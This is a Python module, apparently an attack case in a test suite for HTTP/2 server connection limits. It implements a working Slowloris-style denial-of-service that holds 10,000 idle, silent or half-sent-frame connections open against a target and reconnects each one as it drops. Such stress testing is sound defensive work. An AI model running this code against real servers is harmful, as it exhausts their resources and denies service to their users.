"""10,000 connections that do nothing ("Slowloris", and the default of `limits.connections`).

Of every three, one is idle after its preface, one sends nothing at all, and one sends the preface
and all but the last byte of a frame of 16 KiB, for which a server may have made room.
"""

import asyncio
import socket
import struct
from typing import cast

from support import frames
from support.connection import OPENING, Attack

CONNECTIONS = 10_000
IDLE = frames.PREFACE + frames.settings({})
HALF_A_FRAME = IDLE + frames.head(frames.MAX_PAYLOAD, frames.HEADERS, frames.END_HEADERS, 1) \
    + bytes(frames.MAX_PAYLOAD - 1)
FIRST_BYTES = (IDLE, b"", HALF_A_FRAME)


class Held(asyncio.Protocol):
    """A connection that sends these bytes, and ignores what it gets."""

    def __init__(self, first_bytes: bytes) -> None:
        self.first_bytes = first_bytes
        self.ended = asyncio.Event()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)
        # Closes with RST, so that no connection stays in TIME_WAIT on this machine.
        self.transport.get_extra_info("socket").setsockopt(
            socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.transport.write(self.first_bytes)

    def connection_lost(self, exc: Exception | None) -> None:
        self.ended.set()


async def attack(attack: Attack) -> None:
    opening = asyncio.Semaphore(OPENING)
    await asyncio.gather(*(keep_one(attack, opening, number) for number in range(CONNECTIONS)))


async def keep_one(attack: Attack, opening: asyncio.Semaphore, number: int) -> None:
    while True:
        async with opening:
            connection = await connect(attack, number)
        if connection is None:
            await asyncio.sleep(1)
            continue
        attack.tally["held now"] += 1
        attack.tally["held at most"] = max(attack.tally["held at most"], attack.tally["held now"])
        await connection.ended.wait()
        attack.tally["held now"] -= 1
        attack.tally["ended"] += 1
        # If it reconnected more often, the attacker would be busier than the server.
        await asyncio.sleep(1)


async def connect(attack: Attack, number: int) -> Held | None:
    loop, target = asyncio.get_running_loop(), attack.target
    first_bytes = FIRST_BYTES[number % len(FIRST_BYTES)]
    try:
        _, connection = await asyncio.wait_for(
            loop.create_connection(lambda: Held(first_bytes), target.host, target.port,
                                   local_addr=target.source(number)), 5)
    except (OSError, TimeoutError):
        attack.tally["not connected"] += 1
        return None
    attack.tally["connections"] += 1
    return connection
